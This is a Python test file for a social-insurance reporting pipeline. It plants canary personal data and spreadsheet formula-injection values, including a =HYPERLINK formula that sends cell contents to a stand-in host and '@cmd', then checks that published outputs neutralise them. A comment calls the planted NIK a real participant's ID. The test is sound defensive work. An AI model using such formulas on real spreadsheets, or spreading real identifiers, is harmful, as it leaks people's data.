"""Issue 12: canaries planted in every free-text field never reach a published output, no cell
of any table the pipeline writes is a live formula, and ``verify`` re-derives a report.

One pipeline run on the sample data with canaries added: a name, a phone number, an e-mail
address and a NIK in the occupation, funding, segment, village and claim status of some
rows, in an unknown column's name, in an input file's name and in sheet names; formula-like
village names in the gazetteer and a formula as a worker's name. Then every byte of every
published output is scanned: PDF text and metadata, each attachment, each export in each
format.
"""

import csv
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import xlsxwriter
from pypdf import PdfReader

from pipeline.__main__ import main
from pipeline.publication.screen import FORMULA_PREFIXES
from pipeline.report.render import render_pdf
from pipeline.verification import verify
from tests.conftest import copy_sample

NAME = "Canarius Zulkarnaen"
NAME_PARTS = ("Canarius", "Zulkarnaen")
PHONE = "0812-3456-7890"
PHONE_DIGITS = ("81234567890",)
EMAIL = "canarius.z@example.org"
NIK = "6107141808930042"  # a participant's real NIK (the canary worker's own)
DIGITS = (NIK, *PHONE_DIGITS)
FREE_TEXT = f"Buruh harian ({NAME}, NIK {NIK}) HP {PHONE} {EMAIL}"
FORMULA_NAME = '=HYPERLINK("http://x.example/?n="&C2,"Nama")'
FORMULA_VILLAGES = {
    "61.07.14.2991": '=HYPERLINK("http://x.example/?v="&A1,"Desa")',
    "61.07.14.2992": "+SUM(1+1)",
    "61.07.14.2993": "@cmd",
    "61.07.14.2994": "-2+3",
}
MONTH = "2025-09"
HEADER = (
    "NIK",
    "Nama",
    "Kode Desa",
    "Desa",
    "Kecamatan",
    "Segmen",
    "Pekerjaan",
    "Sumber Dana",
    "Tgl Mulai",
    "Tgl Akhir",
    f"{NAME} {PHONE}",
)


def _plant(raw: Path) -> None:
    with (raw / "reference" / "wilayah.csv").open("a", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(FORMULA_VILLAGES.items())
    rows = [
        HEADER,
        # accepted, ends within three months: in the renewal list with a formula as its name
        (
            NIK,
            FORMULA_NAME,
            "61.07.14.2003",
            "",
            "",
            f"BPU {NAME}",
            FREE_TEXT,
            f"Dibayar anak: {NAME} HP +62 812 3456 7890",
            "01/01/2025",
            "30/11/2025",
            "x",
        ),
        (
            "6107141503850007",
            NAME,
            "",
            f"Desa {NAME} {PHONE}",
            "Sungai Betung",
            "BPU",
            FREE_TEXT,
            "APBD_KAB",
            "01/01/2025",
            "31/12/2025",
            EMAIL,
        ),
        (
            "6107141503850015",
            NAME,
            "61.07.14.2003",
            "",
            "",
            "BPU",
            "Petani",
            "APBD_KAB",
            "=1+1",
            "31/12/2025",
            "",
        ),
    ]
    name = f"Klaim JKM an. {NAME} NIK {NIK}.csv"
    with (raw / "enrolment" / name).open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    book = xlsxwriter.Workbook(
        str(raw / "enrolment" / f"{NAME} {PHONE}.xlsx"), {"strings_to_formulas": False}
    )
    sheet = book.add_worksheet(f"{NAME[:10]} {NIK}")
    for r, row in enumerate(
        [
            HEADER[:10],
            (
                "6107142207800049",
                NAME,
                "61.07.14.2001",
                "",
                "",
                "BPU",
                f"Ojek {NAME} {PHONE}",
                f"Kades {NAME}",
                "01/02/2025",
                "31/01/2026",
            ),
        ]
    ):
        for c, value in enumerate(row):
            sheet.write_string(r, c, value)
    skipped = book.add_worksheet(f"{NAME_PARTS[1]} {PHONE}")
    skipped.write_string(0, 0, f"catatan {NAME} {EMAIL}")
    book.close()
    with (raw / "claims" / f"Klaim {NAME}.csv").open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(
            [
                ("No Klaim", "NIK", "Program", "Tgl Kejadian", "Tgl Pengajuan", "Status"),
                ("K-CANARY-1", NIK, "JKK", "01/06/2025", "05/06/2025", f"{NAME} {PHONE}"),
            ]
        )


@pytest.fixture(scope="module")
def root(tmp_path_factory, sample_raw):
    root = tmp_path_factory.mktemp("canary")
    mp = pytest.MonkeyPatch()
    mp.setenv("PIPELINE_DATA_DIR", str(root))
    mp.setenv("DAGSTER_HOME", str(tmp_path_factory.mktemp("dagster_home")))
    try:
        copy_sample(sample_raw, root)
        _plant(root / "raw")
        assert main(["run"]) == 0
        yield root
    finally:
        mp.undo()


@pytest.fixture(scope="module")
def report(root) -> Path:
    (pdf,) = sorted((root / "processed" / "reports" / MONTH).glob("61.07-*.pdf"))
    return pdf


def _tables(root: Path):
    """(where, rows of cells) of every published table: PDF attachments and every export."""
    processed = root / "processed"
    for pdf in sorted((processed / "reports").rglob("*.pdf")):
        for name, files in PdfReader(pdf).attachments.items():
            if name.endswith(".csv"):
                yield f"{pdf.name}:{name}", list(csv.reader(io.StringIO(b"".join(files).decode("utf-8"))))
    for path in sorted((processed / "exports").iterdir()):
        if path.suffix == ".csv":
            yield path.name, list(csv.reader(path.open(encoding="utf-8")))
        elif path.suffix == ".parquet":
            frame = pd.read_parquet(path)
            yield path.name, [list(frame.columns), *frame.astype(object).values.tolist()]
        elif path.suffix == ".xlsx":
            yield from _workbook(path)


def _workbook(path: Path):
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        yield f"{path.name}:{sheet.title}", [list(r) for r in sheet.iter_rows(values_only=True)]


def _published_bytes(root: Path):
    """(where, text) of every byte an outsider can read, decoded."""
    processed = root / "processed"
    for pdf in sorted((processed / "reports").rglob("*.pdf")):
        yield (
            pdf.name,
            subprocess.run(
                ["pdftotext", "-layout", str(pdf), "-"], check=True, capture_output=True, text=True
            ).stdout,
        )
        reader = PdfReader(pdf)
        yield f"{pdf.name}:info", repr(dict(reader.metadata or {}))
        yield f"{pdf.name}:xmp", reader.trailer["/Root"]["/Metadata"].get_object().get_data().decode()
        for name, files in reader.attachments.items():
            yield f"{pdf.name}:{name}", b"".join(files).decode("utf-8")
    for path in sorted((processed / "exports").iterdir()):
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as z:
                for part in z.namelist():
                    yield f"{path.name}:{part}", z.read(part).decode("utf-8")
        elif path.suffix == ".parquet":
            yield path.name, pd.read_parquet(path).to_csv()
        else:
            yield path.name, path.read_text(encoding="utf-8")


#: A CSV cell that is a number as ``csv_value`` writes it (``-28512000``, ``-0.67``, ``-1.5e-05``).
NUMBER = re.compile(r"-?\d+(\.\d+)?(e[-+]?\d+)?")


def _digits(text: str) -> set[str]:
    return {re.sub(r"\D", "", m) for m in re.findall(r"\d(?:[ .\-]?\d)+", text)}


def test_the_canaries_reached_the_inputs(root):
    import duckdb

    with duckdb.connect(str(root / "processed" / "coverage.duckdb"), read_only=True) as con:
        topics = {
            t
            for (t,) in con.execute(
                "select distinct topic from audit.notes where value like '%Zulkarnaen%'"
            ).fetchall()
        }
        paths = con.execute("select count(*) from audit.input_files where path like '%Canarius%'").fetchone()
    assert {"unmapped_occupation", "unmapped_funding", "unknown_column", "skipped_sheet"} <= topics
    assert paths[0] == 3


def test_no_canary_in_any_byte_published(root):
    texts = dict(_published_bytes(root))
    assert any(w.endswith(".pdf") for w in texts) and any(w.startswith("marts.xlsx:") for w in texts)
    for where, text in texts.items():
        for part in (*NAME_PARTS, EMAIL, PHONE):
            assert part.lower() not in text.lower(), (where, part)
        hits = [d for d in DIGITS if any(d in run for run in _digits(text))]
        assert not hits, (where, hits)


def test_no_published_cell_is_a_live_formula(root):
    tables = dict(_tables(root))
    assert any("villages.csv" in w for w in tables) and "coverage_by_village.parquet" in tables
    for where, rows in tables.items():
        # a negative number in a CSV (a shortfall, a z-score) is a number, not a formula
        live = [
            c
            for row in rows
            for c in row
            if isinstance(c, str) and c.startswith(FORMULA_PREFIXES) and not NUMBER.fullmatch(c)
        ]
        assert not live, (where, live[:3])
    village_csv = (root / "processed" / "exports" / "coverage_by_village.csv").read_text(encoding="utf-8")
    assert "'" + FORMULA_VILLAGES["61.07.14.2992"] in village_csv  # planted, and neutralised
    for path in (root / "processed" / "exports").glob("*.xlsx"):
        with zipfile.ZipFile(path) as z:
            assert not any(
                re.search(r"<(\w+:)?f[ >]", z.read(p).decode())
                for p in z.namelist()
                if p.startswith("xl/worksheets/")
            )


def test_no_internal_cell_is_a_live_formula(root):
    internal = root / "processed" / "internal"
    renewal = list(internal.rglob("*-daftar-perpanjangan.csv"))
    fixes = list(internal.rglob("perbaikan/*.xlsx"))
    assert renewal and fixes
    cells = []
    for path in renewal:
        cells += [c for row in csv.reader(path.open(encoding="utf-8")) for c in row]
    for path in fixes:
        cells += [c for _, rows in _workbook(path) for row in rows for c in row]
    assert "'" + FORMULA_NAME in cells and "'=1+1" in cells  # planted, and neutralised
    assert not [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_PREFIXES)]


def test_the_data_quality_section_gives_counts_and_labels(report):
    text = subprocess.run(
        ["pdftotext", "-layout", str(report), "-"], check=True, capture_output=True, text=True
    ).stdout
    assert re.search(r"kepesertaan #1 · xlsx · \d+ lembar", text) and "referensi wilayah · csv" in text
    assert re.search(r"Lainnya: \d+ ejaan, \d+ baris", text)
    assert re.search(r"\d+ lembar kerja tanpa judul kolom", text)


def test_the_archive_holds_every_input_owner_only(root, report):
    archive = root / "processed" / "archive"
    manifest = verify.read_report(report).manifest
    assert manifest["run_date"] and manifest["inputs_index"] and manifest["code_version"]
    for item in manifest["inputs"]:
        if item["sha256"] and not item["label"].startswith("bawaan"):
            assert (archive / item["sha256"]).stat().st_mode & 0o077 == 0
    assert archive.stat().st_mode & 0o077 == 0


def test_verify_passes_on_the_real_report(root, report, capsys):
    assert main(["verify", str(report)]) == 0
    assert capsys.readouterr().out.startswith("OK:")


def test_verify_finds_a_changed_attached_figure(root, report, tmp_path, capsys):
    published = verify.read_report(report)
    with verify.rederived(published, root / "processed" / "archive") as content:
        villages = content.tables["villages"]
        code = villages.loc[0, "village_code"]
        villages.loc[0, "active"] = villages.loc[0, "active"] + 7
        data, _, _ = render_pdf(content)
    tampered = tmp_path / report.name
    tampered.write_bytes(data)
    assert main(["verify", str(tampered)]) == verify.EXIT_DIFFERENT
    out = capsys.readouterr().out
    assert "DIFFERENT" in out and "villages.csv" in out and code in out and "| active |" in out


def test_verify_lists_a_missing_archive_file(root, report, tmp_path, capsys):
    archive = tmp_path / "archive"
    shutil.copytree(root / "processed" / "archive", archive)
    manifest = verify.read_report(report).manifest
    gone = next(i for i in manifest["inputs"] if i["label"].startswith("kepesertaan"))
    (archive / gone["sha256"]).unlink()
    assert main(["verify", str(report), "--archive", str(archive)]) == verify.EXIT_MISSING
    out = capsys.readouterr().out
    assert gone["sha256"] in out and gone["label"] in out


def test_zz_a_past_report_rerenders_byte_identical_after_new_files_arrive(root, report, tmp_path, capsys):
    published = tmp_path / "published.pdf"
    shutil.copyfile(report, published)
    with (root / "raw" / "enrolment" / "susulan.csv").open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(
            [
                HEADER[:10],
                (
                    "6107141503850023",
                    "Ani",
                    "61.07.14.2001",
                    "",
                    "",
                    "BPU",
                    "Petani",
                    "APBD_KAB",
                    "01/09/2025",
                    "31/08/2026",
                ),
            ]
        )
    assert main(["run", "--month", MONTH]) == 0
    assert report.read_bytes() != published.read_bytes()  # the month is restated from the new inputs
    assert main(["rerender", str(published), "--out", str(tmp_path / "again")]) == 0
    assert (tmp_path / "again" / report.name).read_bytes() == published.read_bytes()
    assert main(["verify", str(published)]) == 0
